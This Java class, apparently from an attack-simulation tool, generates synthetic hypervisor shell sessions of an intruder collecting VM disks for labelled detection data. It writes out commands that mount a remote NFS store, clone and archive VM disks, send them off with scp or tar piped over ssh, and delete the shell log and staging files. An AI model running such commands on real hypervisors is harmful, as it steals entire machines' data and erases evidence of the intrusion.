package org.stagewatch.simulation.attack;

import java.time.Duration;
import java.util.Locale;
import org.stagewatch.simulation.chance.Dice;
import org.stagewatch.simulation.chance.Words;
import org.stagewatch.simulation.cloud.HypervisorLog;
import org.stagewatch.simulation.enterprise.Host;
import org.stagewatch.simulation.story.Label;
import org.stagewatch.simulation.story.Scene;

/// Someone at the shell of a hypervisor brings the files of several virtual machines into one place: packs them, clones
/// their disks into a store that was mounted for it, copies them into a folder, or sends them away.
final class MachineDisks implements Gathering {
    private enum Way {
        PACK,
        CLONE,
        COPY,
        SEND
    }

    @Override
    public void gather(Scene scene, Attack attack) {
        Dice dice = scene.dice();
        HypervisorLog log = new HypervisorLog(scene, attack.place().host());
        HypervisorLog.Shell shell = log.shell(scene.address(attack.foothold()));
        String place = attack.place().path();
        Way way = place.contains(":")
                ? Way.SEND
                : place.startsWith("/vmfs/volumes/datastore")
                        ? attack.difficulty() == Difficulty.HARD ? dice.oneOf(Way.PACK, Way.COPY) : Way.PACK
                        : place.startsWith("/vmfs/") ? dice.oneOf(Way.CLONE, Way.COPY) : Way.PACK;
        prepare(scene, attack, shell, place);
        for (Host source : attack.sources()) {
            Intrusion.phase(scene, attack, Label.Phase.GATHER, source);
            String machine = "/vmfs/volumes/datastore" + dice.between(1, 3) + "/" + source.name();
            if (way == Way.CLONE || dice.chance(0.5)) {
                shell.type("vim-cmd vmsvc/snapshot.create " + dice.between(1, 90) + " " + Words.shortName(dice));
                scene.seconds(10, 200);
            }
            shell.type(command(way, machine, source, place, dice));
            scene.wait(Duration.ofSeconds(20), attack.pause());
        }
        if (attack.ending() == Attack.Ending.CLEANS_UP) {
            Intrusion.phase(scene, attack, Label.Phase.CLEAN_UP);
            scene.minutes(20, 120);
            shell.type(way == Way.SEND ? "rm -f /scratch/log/shell.log" : "rm -rf " + place + "/*");
        }
        shell.leave();
    }

    private static void prepare(Scene scene, Attack attack, HypervisorLog.Shell shell, String place) {
        Dice dice = scene.dice();
        Intrusion.phase(scene, attack, Label.Phase.PREPARE);
        shell.type(dice.oneOf("vim-cmd vmsvc/getallvms", "esxcli vm process list", "ls -la /vmfs/volumes/"));
        scene.seconds(5, 200);
        if (place.startsWith("/vmfs/volumes/datastore") || place.startsWith("/tmp")) {
            shell.type("mkdir -p " + place);
        } else if (place.startsWith("/vmfs/")) {
            String store = place.substring(place.lastIndexOf('/') + 1);
            String server = scene.address(attack.foothold());
            shell.type(dice.oneOf(
                    "esxcli storage nfs add -H " + server + " -s /" + Words.shortName(dice) + " -v " + store,
                    "esxcli storage nfs add --host=" + server + " --share=/export --volume-name=" + store));
        }
        scene.seconds(5, 200);
    }

    private static String command(Way way, String machine, Host source, String place, Dice dice) {
        String name = dice.oneOf(source.name(), Words.shortName(dice));
        return switch (way) {
            case PACK ->
                "tar " + dice.oneOf("czf ", "-czf ", "cf ") + place + "/" + name + dice.oneOf(".tgz", ".tar.gz", ".bin")
                        + " " + machine;
            case CLONE ->
                "vmkfstools -i " + machine + "/" + source.name() + ".vmdk " + place + "/" + name + ".vmdk"
                        + dice.oneOf("", " -d thin");
            case COPY -> "cp " + dice.oneOf("-r ", "-R ") + machine + " " + place + "/" + name;
            case SEND ->
                dice.chance(0.6)
                        ? "scp " + dice.oneOf("-r ", "-qr ") + machine + " " + place
                        : "tar cf - " + machine + " | ssh "
                                + place.substring(0, place.indexOf(':')) + " \"cat > /srv/"
                                + name.toLowerCase(Locale.ROOT) + "\"";
        };
    }
}
